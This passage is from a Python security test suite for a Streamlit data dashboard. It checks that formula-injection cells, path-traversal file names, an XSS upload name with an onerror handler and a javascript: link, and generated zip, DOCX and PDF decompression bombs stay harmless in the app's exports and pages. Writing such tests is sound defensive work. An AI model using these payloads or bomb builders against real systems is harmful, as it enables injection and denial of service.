                    lambda p=payload: _workbook_problems(xlsx, [p], "table download"))
    tally.check("formula", "XLSX download: negative numbers stay numbers",
                lambda: None if len(negatives) == len(table) else f"{len(negatives)} negative numbers for {len(table)} rows")
    tally.check("formula", "CSV download: negative numbers stay numbers",
                lambda: None if all(r[-1] == "-1,5" for r in rows[1:]) else "a negative number was changed")
    # the data export (template.export_workbook), real rows only: the hostile batch is real
    with db.cursor() as cur:
        export = template.export_workbook(cur, "vi", include_demo=False)
    for payload in FORMULA_PAYLOADS:
        tally.check("formula", f"data export (all data in the template) ← {payload}",
                    lambda p=payload: _workbook_problems(export, [p], "data export"))
    # the error workbook of a CSV and of an XLSX upload with formula-looking cells and errors
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Mã đơn vị", "Mã chỉ tiêu", "Năm", "Giá trị", "Nguồn"])
    writer.writerows([DISTRICT, "OPS_ONTIME_PCT", 2024, "abc", p] for p in FORMULA_PAYLOADS if "\r" not in p)
    csv_upload = out.getvalue().encode()
    report = service.validate(db, csv_upload, "gia_tri_chi_tieu.csv")
    errors_csv = service.error_workbook(csv_upload, report, "vi")
    xlsx_upload = template.write_workbook({"indicator_values": [
        {"unit_id": DISTRICT, "indicator": "OPS_ONTIME_PCT", "year": 2024, "value": "abc", "source": p}
        for p in FORMULA_PAYLOADS]}, lang="vi", catalogue=Catalogue.from_seed())
    errors_xlsx = service.error_workbook(xlsx_upload, service.validate(db, xlsx_upload, "gia_tri.xlsx"), "vi")
    for payload in FORMULA_PAYLOADS:
        if "\r" not in payload:
            tally.check("formula", f"error workbook of a CSV upload ← {payload}",
                        lambda p=payload: _workbook_problems(errors_csv, [p], "CSV error workbook"))
        tally.check("formula", f"error workbook of an XLSX upload ← {payload}",
                    lambda p=payload: _workbook_problems(errors_xlsx, [p], "XLSX error workbook"))
    # the quarantine workbook of the hostile (partial) batch: its rows set aside name units by payloads
    quarantine = service.quarantine_workbook(db, hostile.batch_id, "vi") if hostile.batch_id else b""
    tally.check("formula", "quarantine workbook ← a unit named =HYPERLINK(…)",
                lambda: _workbook_problems(quarantine, [hostile.rejected_units[2]], "quarantine workbook")
                if quarantine else "no batch")


# ------------------------------------------------------------------------------------------------ path_traversal

def _names(db: Database, tally: _Tally, workdir: Path) -> None:
    """Every hostile upload name through the import service (validate; one load records it) and the extractor:
    a safe base name comes back, and no file appears where the name points."""
    from par_dashboard.extract import UnreadableFile, read_file

    upload = f"Mã đơn vị,Mã chỉ tiêu,Năm,Giá trị\n{DISTRICT},OPS_ONTIME_PCT,2024,abc\n".encode()
    places = [Path.cwd(), workdir, Path(tempfile.gettempdir())]
    for name in NAME_PAYLOADS:
        def safe(name=name):
            targets = [p / n for p in places for n in {name, name.replace("\\", "/")} if n and "\x00" not in n]
            existed = {t for t in targets if _exists(t)}
            got = service.validate(db, upload, name).file_name
            try:
                read_file(name, b"Bao cao")
            except UnreadableFile:
                pass
            created = [str(t) for t in targets if _exists(t) and t not in existed]
            if created:
                return f"files appeared: {created}"
            if got != safe_file_name(name) or re.search(r"[\\/\x00-\x1f]", got) or len(got) > MAX_NAME_CHARS or got.startswith("."):
                return f"recorded as {got!r}"
            return None
        tally.check("path_traversal", f"upload name {name}", safe)
    for name in NAME_PAYLOADS:
        tally.check("path_traversal", f"download name from a filter value {name}",
                    lambda name=name: None if not re.search(r"[\\/\x00-\x1f]|\.\.", exports.file_stem("bang", {"q": name}))
                    else f"file name {exports.file_stem('bang', {'q': name})!r}")


def _exists(path: Path) -> bool:
    try:
        return path.exists()
    except (OSError, ValueError):
        return False


def _recorded_name(db: Database, hostile: Hostile, tally: _Tally) -> None:
    with db.cursor() as cur:
        row = cur.execute("SELECT b.file_name, s.file FROM import_batch b JOIN source s USING (source_id) WHERE batch_id = $b",
                          {"b": hostile.batch_id}).fetchone()
    tally.check("path_traversal", f"recorded upload name {HOSTILE_FILE}",
                lambda: None if row and row[0] == row[1] == safe_file_name(HOSTILE_FILE) else f"recorded as {row}")


# ------------------------------------------------------------------------------------------------ oversized

def _deflated_zip(entries: dict[str, bytes | int]) -> bytes:
    """A zip whose int entries are that many zero bytes, deflated (a bomb: megabytes become kilobytes)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, body in entries.items():
            if isinstance(body, int):
                with z.open(name, "w", force_zip64=True) as f:
                    chunk = b"\0" * (1 << 20)
                    for _ in range(body >> 20):
                        f.write(chunk)
            else:
                z.writestr(name, body)
    return buf.getvalue()


def _pdf(content: bytes) -> bytes:
    """A one-page PDF whose drawing instructions are `content`, compressed."""
    stream = zlib.compress(content, 9)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for i, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def _oversized(db: Database, tally: _Tally) -> None:
    from par_dashboard import extract

    before = fingerprint(db)

    # CPU time of this process, not the wall clock: a refusal must come before the file is read, and a loaded machine
    # stretches the wall clock without adding work (3 s of CPU is orders of magnitude above a refusal's cost)
    def refused_upload(data: bytes, name: str, limit_s: float = 3.0) -> str | None:
        started = time.process_time()
        report = service.validate(db, data, name)
        took = time.process_time() - started
        errors = [e for e in report.errors if e.code == "file_too_large"]
        if report.status != "rejected" or not errors or not errors[0].message_vi or not errors[0].message_en:
            return f"not refused as too large: {report.status} {[e.code for e in report.errors]}"
        return None if took < limit_s else f"refused after {took:.1f} s"

    tally.check("oversized", f"upload of {reader.MAX_BYTES + 1} bytes (CSV)",
                lambda: refused_upload(b"a,b\n" + b"x" * (reader.MAX_BYTES - 3), "lon.csv"))
    bomb = template.template_workbook("vi")
    with zipfile.ZipFile(io.BytesIO(bomb)) as z:
        parts = {i.filename: z.read(i.filename) for i in z.infolist()}
    parts["xl/media/bom.bin"] = 31 * reader.MAX_BYTES + (1 << 20)
    xlsx_bomb = _deflated_zip(parts)
    tally.check("oversized", f"xlsx zip bomb ({len(xlsx_bomb) // 1024} KB, unpacks past {31 * reader.MAX_BYTES >> 20} MB)",
                lambda: refused_upload(xlsx_bomb, "bom.xlsx"))

    def refused_text(name: str, data: bytes, limit_s: float = 3.0) -> str | None:
        started = time.process_time()
        try:
            extract.read_file(name, data)
        except extract.UnreadableFile as exc:
            took = time.process_time() - started
            return None if exc.vi and exc.en and took < limit_s else f"refused after {took:.1f} s"
        return "read"

    tally.check("oversized", f"text file of {extract.MAX_FILE_BYTES + 1} bytes",
                lambda: refused_text("lon.txt", b"a" * (extract.MAX_FILE_BYTES + 1)))
    docx_bomb = _deflated_zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": 64 << 20})
    tally.check("oversized", f"docx zip bomb ({len(docx_bomb) // 1024} KB, unpacks to 64 MB)",
                lambda: refused_text("bom.docx", docx_bomb))
    pdf_bomb = _pdf(b"BT /F1 12 Tf " + b"(Xin chao) Tj " * 200_000 + b"ET")
    tally.check("oversized", f"PDF of {len(pdf_bomb) // 1024} KB unpacking to 2.8 MB of text instructions",
                lambda: refused_text("bom.pdf", pdf_bomb))

    def long_text():
        """Cut before anything else reads it: it costs no more than a text already at the limit (a ratio of CPU times
        measured side by side, not a wall time: this machine's speed drifts)."""
        sentence = "The inspection team visited the district. "

        def cpu(text: str) -> tuple[float, dict]:
            started = time.process_time()
            draft = extract.extract_text(text, db=db)
            return time.process_time() - started, draft

        at_limit, _ = cpu((sentence * (extract.MAX_CHARS // len(sentence) + 1))[:extract.MAX_CHARS])
        took, draft = cpu(sentence * 40_000)
        cut = len(draft["text"]) == extract.MAX_CHARS and any(m["level"] == "warning" for m in draft["messages"])
        ratio = took / max(at_limit, 0.05)
        return None if cut and ratio < 3 else f"cut={cut}, {ratio:.1f}× the cost of a text at the limit"
    tally.check("oversized", "pasted text of 1.7 million characters", long_text)
    if changed := _changed(before, fingerprint(db)):
        tally.failures.append(f"oversized: refused uploads changed tables {changed}")


# ------------------------------------------------------------------------------------------------ entry points

def _users_file(workdir: Path, name: str, password: str) -> Path:
    from par_dashboard.security import auth

    path = workdir / "users.json"
    auth.add_user(name, "admin", password, path=path)
    return path


def run_payloads(db_path: Path) -> dict:
    """Every class but the browser part, on a hostile copy of `db_path`: {class: {tried, inert}, "failures": [...]}."""
    from par_dashboard.shell import cached

    tally = _Tally()
    workdir = Path(tempfile.mkdtemp(prefix="par-payloads-"))
    try:
        copy = workdir / "par.duckdb"
        hostile = build_hostile_database(Path(db_path), copy)
        users = _users_file(workdir, CHECK_USER, CHECK_PASSWORD)
        db = Database(copy)
        try:
            with environment(PAR_DB=str(copy), PAR_USERS_FILE=str(users)):
                _stored_literally(db, hostile, tally)
                _recorded_name(db, hostile, tally)
                _queries(db, tally)
                _url_values(tally)
                _app_runs(db, tally, CHECK_USER)
                _search(db, tally)
                _unit_search(db, tally)
                _inspections_page(tally, CHECK_USER)
                _bad_cells(db, tally)
                _extractor(db, tally)
                _markup(db, hostile, tally)
                _formulas(db, hostile, tally)
                _names(db, tally, workdir)
                _oversized(db, tally)
        finally:
            cached.database.clear()  # the app's connection to the copy (AppTest runs in this process)
            cached.RESULTS.clear()
            db.close()
        _deck(copy, hostile, tally)
        if written := [str(f) for f in _PWNED_FILES if f.exists()]:
            tally.failures.append(f"sql_injection: a COPY or ATTACH payload wrote {written}")
    finally:
        _read_book.cache_clear()  # the workbooks read: not kept past this run
        shutil.rmtree(workdir, ignore_errors=True)
    return tally.result()


# ------------------------------------------------------------------------------------------------ in Chromium

UPLOAD_CAP_MB = EXPECTED["server.maxUploadSize"]  # as .streamlit/config.toml sets it (hardening/settings.py checks)

# Pages that show the hostile rows, with what each must show as written (Markdown-rendered places: titles, headers,
# the summary, the sources list, the upload's name; tables draw on a canvas and charts in SVG text).
_PAGES = (
    # the one-inspection summary (its own section: one a run) writes the team, leader, plan, places and findings
    ("kiem-tra", f"year={YEAR}&province={PROVINCE}&section=summary", ("province", "team", "leader", "plan_issuer", "checked", "finding")),
    ("dia-phuong", f"year={YEAR}&province={PROVINCE}&unit={DISTRICT}", ("district", "province")),
    ("chi-tieu", f"year={YEAR}&province={PROVINCE}&unit={DISTRICT}&indicator=OPS_ONTIME_PCT", ("source",)),
    ("", f"year={YEAR}&province={PROVINCE}", ("province",)),
    ("ban-do", f"year={YEAR}&province={PROVINCE}", ("province",)),
    ("trinh-chieu", f"year={YEAR}&province={PROVINCE}", ()),
    ("du-lieu", "", ()),
)
# What a script would leave behind, in every frame: a dialog is watched separately.
_DOM_CHECK = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const v = (a.value || '').toLowerCase().replace(/\\s/g, '');
      if ((a.name.startsWith('on') && v.includes('__pwned')) ||
          (['href', 'src', 'xlink:href', 'action', 'formaction'].includes(a.name) && v.startsWith('javascript:')))
        bad.push(el.tagName + ' ' + a.name + '=' + a.value.slice(0, 60));
    }
    if (el.tagName === 'SCRIPT' && (el.textContent || '').trim().startsWith('window.__pwned')) bad.push('SCRIPT ' + el.textContent.slice(0, 60));
  }
  return {pwned: typeof window.__pwned === 'undefined' ? null : String(window.__pwned), bad: bad.slice(0, 5)};
}"""


def _expected_on_page(hostile: Hostile, keys: tuple[str, ...]) -> list[str]:
    texts = {"province": hostile.unit_names.get(PROVINCE), "district": hostile.unit_names.get(DISTRICT),
             "team": hostile.texts["team_label"], "leader": hostile.texts["leader_name"],
             "plan_issuer": hostile.texts["plan_issuer"], "checked": hostile.texts["what_checked"],
             "source": hostile.texts["source"], "finding": script_payloads("finding")[0]}
    return [_literal(texts[k]) for k in keys if texts.get(k)]


def _settle(page, timeout: int = 90_000) -> None:
    page.wait_for_selector("[data-testid='stSidebarNav']", timeout=timeout)  # signed in, the navigation drawn
    page.wait_for_selector("[data-testid='stMain'] h1", timeout=timeout)
    page.wait_for_timeout(600)
    # the run has ended (Streamlit's own mark on its root): on a loaded machine a page was caught half drawn, with
    # no status widget shown yet, and its texts "not visible"
    page.wait_for_selector("[data-testid='stApp'][data-test-script-state='notRunning']", timeout=timeout)
    page.wait_for_function("!document.querySelector('[data-testid=\"stStatusWidget\"]')"
                           " && !document.querySelector('[data-testid=\"stSkeleton\"]')", timeout=timeout)
    page.wait_for_timeout(400)


def _sign_in(page, base: str, path: str) -> None:
    """Open `path` (its filters in the URL) and sign in on the login page it shows: the page then runs."""
    page.goto(f"{base}/{path}")
    page.wait_for_selector("input[type='password']", timeout=90_000)
    page.locator("input[autocomplete='username']").fill(CHECK_USER)
    page.locator("input[type='password']").fill(CHECK_PASSWORD)
    page.locator("input[type='password']").press("Enter")
    _settle(page)


def _hover_charts(page) -> None:
    """Draw the hover labels of every chart (where names and texts appear in Plotly's own markup)."""
    for chart in page.locator(".js-plotly-plot").all()[:6]:
        if not chart.is_visible():
            continue  # in a closed expander or tab
        chart.scroll_into_view_if_needed(timeout=5_000)
        for point in chart.locator(".bars .point path, .scatterlayer .point").all()[:4]:
            box = point.bounding_box()
            if box and box["width"] > 0:
                page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
                page.wait_for_timeout(80)


def _inspect(page, what: str, expected: list[str], dialogs: list[str], tally: _Tally) -> None:
    for frame in page.frames:
        state = frame.evaluate(_DOM_CHECK)
        tally.check("html_script", f"{what}: no script ran, no live handler or javascript: link ({frame.url[:40]})",
                    lambda state=state: None if state["pwned"] is None and not state["bad"] else str(state))
    tally.check("html_script", f"{what}: no dialog", lambda: None if not dialogs else f"dialogs {dialogs}")
    shown = "\n".join(f.locator("body").inner_text() for f in page.frames if f.url in ("about:srcdoc", page.url))
    for text in expected:
        tally.check("html_script", f"{what}: shown as written: {text}",
                    lambda text=text: None if text in shown else "not visible as written")


def _upload(page, name: str, data: bytes) -> None:
    page.locator("[data-testid='stFileUploader'] input[type='file']").first.set_input_files(
        files=[{"name": name, "mimeType": "text/csv", "buffer": data}])


def _data_page(page, base: str, hostile: Hostile, dialogs: list[str], tally: _Tally) -> None:
    """The data page: a file uploaded under a hostile name (its safe name shown as written, no script), and a file
    past the limit (one number: the page's, the widget's and the server's; refused before it is uploaded)."""
    name = "<img src=x onerror=window.__pwned='upload'> [bấm](javascript:window.__pwned='upload') **x**.csv"
    _upload(page, name, f"Mã đơn vị,Mã chỉ tiêu,Năm,Giá trị\n{DISTRICT},OPS_ONTIME_PCT,2024,abc\n".encode())
    page.get_by_text(safe_file_name(name), exact=False).first.wait_for(timeout=60_000)
    _settle(page)
    _inspect(page, "data page, a file uploaded as " + name, [safe_file_name(name)], dialogs, tally)
    assert UPLOAD_CAP_MB == reader.MAX_MB, "the server's cap and the page's limit are one number"
    _upload(page, "rat_lon.csv", b"a,b\n" + b"x" * reader.MAX_BYTES)

    def refused_before_upload():
        page.get_by_text(f"{UPLOAD_CAP_MB}.0MB", exact=False).first.wait_for(timeout=60_000)  # Streamlit's own words
        page.wait_for_timeout(1_000)
        return "the page read it" if page.get_by_text("rat_lon.csv”", exact=False).count() else None
    tally.check("oversized", f"data page: an upload past the server's cap ({UPLOAD_CAP_MB} MB) is refused", refused_before_upload)


def run_browser_payloads(db_path: Path, *, server, browser, screenshots: Path | None = None) -> dict:
    """The hostile database served by a real dashboard (`server(db_path)` yields its base URL, as
    tests/browser.py's streamlit_server) and read in Chromium (`browser`, a Playwright browser): on every page
    that shows the hostile rows, no script runs and the text reads as written (a screenshot of each page goes to
    `screenshots` when given). Figures as run_payloads'."""
    tally = _Tally()
    workdir = Path(tempfile.mkdtemp(prefix="par-payloads-browser-"))
    try:
        copy = workdir / "par.duckdb"
        hostile = build_hostile_database(Path(db_path), copy)
        users = _users_file(workdir, CHECK_USER, CHECK_PASSWORD)
        with environment(PAR_USERS_FILE=str(users)), server(copy) as base:
            context = browser.new_context(viewport={"width": 1500, "height": 2600})
            try:
                page = context.new_page()
                dialogs: list[str] = []
                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
                for path, query, keys in _PAGES:
                    _sign_in(page, base, f"{path}?{query}" if query else path)
                    what = f"/{path}?{query}"
                    if path == "chi-tieu":
                        page.locator("[data-testid='stExpander'] summary").last.click()
                        page.wait_for_timeout(300)
                    if path == "trinh-chieu":
                        page.frame_locator("iframe").first.locator("body[data-ready='1']").wait_for(timeout=60_000)
                    _hover_charts(page)
                    _inspect(page, what, _expected_on_page(hostile, keys), dialogs, tally)
                    if path == "du-lieu":
                        _data_page(page, base, hostile, dialogs, tally)
                    if screenshots is not None:
                        screenshots.mkdir(parents=True, exist_ok=True)
                        page.screenshot(path=str(screenshots / f"hostile_{path or 'xep-hang'}.png"), full_page=True)
            finally:
                context.close()
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    return tally.result()
